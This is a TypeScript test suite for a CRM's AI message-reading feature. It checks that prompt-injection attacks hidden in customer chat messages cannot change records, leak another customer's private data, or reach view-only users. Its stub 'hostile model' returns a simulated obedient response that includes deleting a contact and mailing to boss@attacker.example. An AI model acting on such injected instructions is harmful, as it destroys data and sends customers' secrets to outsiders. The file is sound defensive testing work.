import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Activity } from "../../src/activities/activities.schema.ts";
import type { Proposal } from "../../src/proposals/proposals.schema.ts";
import type { Reading } from "../../src/reading/reading.schema.ts";
import { type App, startApp } from "../support/app.ts";
import type { Client } from "../support/client.ts";
import { databasesOf } from "../support/databases.ts";
import { eventually } from "../support/mailbox.ts";
import { ModelServer, type Seen } from "../support/model-server.ts";
import { addPerson, type Person, pageOf } from "../support/people.ts";
import { NAMED_ATTACKS } from "./known-attacks.ts";
import { choose } from "./trust.ts";

/**
 * Every attack that we know in what a customer writes, read by a model that does whatever it says: nothing is changed; what is proposed waits for
 * a person, is about that customer alone, and is shown to nobody who may not do it.
 */

const OTHER = { name: "Bùi Văn Mật", phone: "0909000111", secret: "Mức giá sàn nội bộ là 11.223.344 đồng" };
const HONEST = "Bên anh cần báo giá 20 bộ bàn, ngân sách 300 triệu, ký hợp đồng trước ngày 20/12/2028.";
const OF_OTHERS = /Bùi Văn Mật|0909|11\.223\.344|hợp đồng mật/i;

/** What a model that has gone over says: the strongest of each field, resting on words that do stand in the text, and more besides. */
function obey({ body }: Seen): string {
  const lines = (body.messages[1]?.content ?? "").split("\n").filter((line) => line.startsWith("| "));
  const quote = (lines[0] ?? "| -").slice(2, 400).trim() || "-";
  const last = (lines.at(-1) ?? "| -").slice(2, 400).trim() || "-";
  return JSON.stringify({
    intent: { value: "buy", quote },
    sentiment: { value: "positive", quote },
    complaint: null,
    competitor: { value: OTHER.name, quote },
    budget: { value: { amount: 9_000_000_000, currency: "VND" }, quote: last },
    timing: { value: { from: "2020-01-01", to: "2020-01-01" }, quote: last },
    product: { value: `${OTHER.name} ${OTHER.phone}`, quote },
    dealId: other.dealId,
    patch: { contactId: other.contactId, ownerId: null, stage: "won" },
    tool_calls: [{ name: "delete_contact" }, { name: "send_mail", to: "boss@attacker.example" }],
  });
}

let app: App;
let model: ModelServer;
let rep: Person;
let page: Client;
let viewer: Client;
const other = { contactId: "", dealId: "" };
const victim = { contactId: "", dealId: "" };

beforeAll(async () => {
  model = await ModelServer.start((seen) => ({ kind: "text", text: obey(seen) }));
  app = await startApp({ empty: true, env: model.env });
  await choose(app.owner, { purposes: ["reading"] });
  rep = await addPerson(app, "rep");
  page = await pageOf(app, rep);
  viewer = await pageOf(app, await addPerson(app, "viewer"));
  other.contactId = await made("contacts", { givenName: "Mật", familyName: "Bùi Văn", phones: [{ number: OTHER.phone }] });
  other.dealId = await addDeal(other.contactId, "Hợp đồng mật");
  await readOf(await made("activities", { kind: "note", body: OTHER.secret, links: [other.contactId] }), app.owner);
  victim.contactId = await made("contacts", { givenName: "Minh", familyName: "Trần", stage: "lead" }, page);
  victim.dealId = await addDeal(victim.contactId, "Văn phòng mới");
});
afterAll(async () => {
  await app?.close();
  await model?.close();
});

async function made(path: string, body: object, who: Client = app.owner): Promise<string> {
  const answer = await who.post<{ id: string }>(path, body);
  if (answer.status !== 201) throw new Error(JSON.stringify(answer.body));
  return answer.body.id;
}

async function addDeal(contactId: string, name: string): Promise<string> {
  const id = `dea_${contactId.slice(4)}`;
  await databasesOf(app).workspace.run(
    `insert into deals (id, name, sort_name, contact_id, stage, status, created_at, updated_at) values (?, ?, ?, ?, 'engaging', 'open', 1, 1)`,
    ...[id, name, name.toLowerCase(), contactId],
  );
  return id;
}

interface Listed {
  items: Reading[];
  proposals: Proposal[];
}

const listed = async (id: string, who: Client): Promise<Listed> => (await who.get<Listed>(`readings?activityIds=${id}`)).body;
const readOf = (id: string, who: Client): Promise<Listed> =>
  eventually("the reading", async () => {
    const found = await listed(id, who);
    return found.items.length > 0 ? found : undefined;
  });

const HELD = ["contacts", "companies", "deals", "tasks", "deal_stage_events", "outgoing_mail", "record_shares", "webhooks", "members"];

/** All that an effect would change, whole; when somebody was last heard of is told by the message itself. */
const stateOf = () =>
  Promise.all(
    HELD.map(async (table) => {
      const rows = await databasesOf(app).workspace.rows<Record<string, unknown>>(`select * from ${table}`);
      return [table, rows.map(({ last_activity_at, ...row }) => row)];
    }),
  );

/** Proposals as they are kept, whoever may see them. */
const proposedFrom = (activityId: string) =>
  databasesOf(app).workspace.rows<{ [field: string]: string | number | null }>("select * from proposals where activity_id = ?", activityId);

describe.each([
  ["alone", ""],
  ["after an honest wish", `${HONEST}\n\n`],
])("%s", (_, before) => {
  test.each(NAMED_ATTACKS)("$index $name", async ({ attack }) => {
    const state = await stateOf();
    const asked = model.seen.length;
    const body = `${before}${attack}`;
    const subject = attack.replace(/\s+/g, " ").slice(0, 140);
    const id = await made("activities", { kind: "chat", direction: "in", subject, body, links: [victim.contactId] }, page);
    const { items, proposals } = await readOf(id, page);
    expect(await stateOf()).toEqual(state);
    for (const { body } of model.seen.slice(asked)) {
      expect(Object.keys(body)).not.toContain("tools");
      const told = body.messages.filter(({ role }) => role !== "assistant");
      expect(JSON.stringify(told)).not.toMatch(OF_OTHERS);
    }
    expect(JSON.stringify(items.map(({ found }) => found))).not.toMatch(OF_OTHERS);
    const kept = await proposedFrom(id);
    for (const one of kept) requireHarmless(one);
    expect(proposals.map((one) => one.id).toSorted()).toEqual(kept.map((one) => one.id).toSorted());
    await requireOutOfReach(id, proposals);
  });
});

/** It waits, is about this customer alone, and takes nothing that a reading may not lead to. */
function requireHarmless({ patch, before, ...row }: { [field: string]: string | number | null }): void {
  expect(row).toMatchObject({
    state: "open",
    unasked: 0,
    change_id: null,
    verb: expect.toBeOneOf(["tasks:create", "deals:edit", "contacts:edit"]),
  });
  expect([null, victim.contactId, victim.dealId]).toContain(row.record_id);
  const all = JSON.stringify([patch, before, row]);
  expect(all).not.toMatch(OF_OTHERS);
  expect(all).not.toContain(other.contactId.slice(4));
  const wanted = JSON.parse(String(patch)) as Record<string, unknown>;
  expect(["negotiation", "lost", "qualified", undefined]).toContain(wanted.stage);
  expect([300_000_000, undefined]).toContain(wanted.amount);
}

/** Who may only look is offered none of it, and is refused when they name it. */
async function requireOutOfReach(activityId: string, proposals: Proposal[]): Promise<void> {
  expect((await listed(activityId, viewer)).proposals).toEqual([]);
  for (const { id } of proposals) expect([403, 404]).toContain((await viewer.post(`proposals/${id}/accept`, {})).status);
}

test("the hostile model was really asked, and honest words still lead to proposals", async () => {
  expect(model.seen.length).toBeGreaterThan(NAMED_ATTACKS.length / 2);
  expect(
    await databasesOf(app).workspace.count("assistant_runs", "kind = 'reading' and engine = 'model' and outcome = 'ok'"),
  ).toBeGreaterThan(20);
  expect(await databasesOf(app).workspace.count("proposals", "proposer = 'assistant' and state = 'open'")).toBeGreaterThan(0);
});

test("what one member keeps to themselves is read for nobody else, whatever stands in it", async () => {
  const body = `${HONEST} ${NAMED_ATTACKS.at(-1)?.attack}`;
  const input = { kind: "chat", direction: "in", body, links: [other.contactId], isPrivate: true };
  const { status, body: activity } = await app.owner.post<Activity>("activities", input);
  expect(status).toBe(201);
  await readOf(activity.id, app.owner);
  expect(await listed(activity.id, page)).toEqual({ items: [], proposals: [] });
  for (const { member_id } of await proposedFrom(activity.id)) expect(member_id).not.toBe(rep.id);
});
